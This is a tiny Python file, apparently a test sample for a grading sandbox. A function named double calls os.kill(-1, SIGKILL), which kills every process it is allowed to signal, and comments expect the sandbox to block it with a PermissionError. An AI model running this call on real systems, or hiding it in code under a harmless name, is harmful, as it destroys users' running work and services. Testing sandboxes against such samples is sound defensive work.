"""Kill every process that may be killed."""
# must: double failed
# says: PermissionError
# spares: the processes, the grades

import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
